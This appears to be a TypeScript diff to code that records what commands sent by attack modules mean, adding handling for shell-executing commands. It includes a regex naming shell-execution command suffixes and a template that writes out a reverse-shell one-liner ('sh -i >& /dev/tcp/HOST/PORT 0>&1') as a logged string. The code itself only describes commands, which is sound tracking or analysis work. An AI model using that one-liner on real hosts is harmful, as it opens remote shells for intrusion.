@@ -13,6 +13,7 @@ type Meaning = (
 ) => Act[];
 
 const LONGEST_BODY = 65_536;
+const LONGEST_SHELL_LINE = 16_384;
 
 /** What a command means beside having been sent. Tried and refused counts too: `accepted` tells. */
 export function meaningOf(
@@ -23,8 +24,32 @@ export function meaningOf(
   cut: readonly Cut[],
 ): Act[] {
   if (Object.hasOwn(MEANINGS, name)) return MEANINGS[name]?.(args, accepted, context, cut) ?? [];
+  if (isShell(name)) return shellLine(args, accepted, context, cut);
   return writtenValues(name, args, context.db, cut);
 }
+
+/** Commands of attack modules that hand their argument to a shell: `system.exec` and what others call it. */
+function isShell(name: string): boolean {
+  return /\.(exec|rev|run|cmd|shell|sh|bash|system|eval|execute|popen)$/.test(name);
+}
+
+/** `system.rev HOST PORT` has no line: it ties a shell to that place, which is what the line says. */
+const shellLine: Meaning = (args, _accepted, _context, cuts) => {
+  const [first = '', second] = args;
+  if (first === '') return [];
+  const opens = args.length === 2 && /^\d{1,5}$/.test(second ?? '');
+  const line = opens ? `sh -i >& /dev/tcp/${first.slice(0, 253)}/${second} 0>&1` : first;
+  const before = cuts.find((one) => one.index === 0);
+  const cut = before ?? (line.length > LONGEST_SHELL_LINE ? cutOf(0, line) : undefined);
+  return [
+    {
+      type: 'shell.command',
+      via: 'module',
+      line: line.slice(0, LONGEST_SHELL_LINE),
+      ...(cut === undefined ? {} : { cut: [{ ...cut, index: -1 }] }),
+    },
+  ];
+};
 
 const save =
   (command: string): Meaning =>
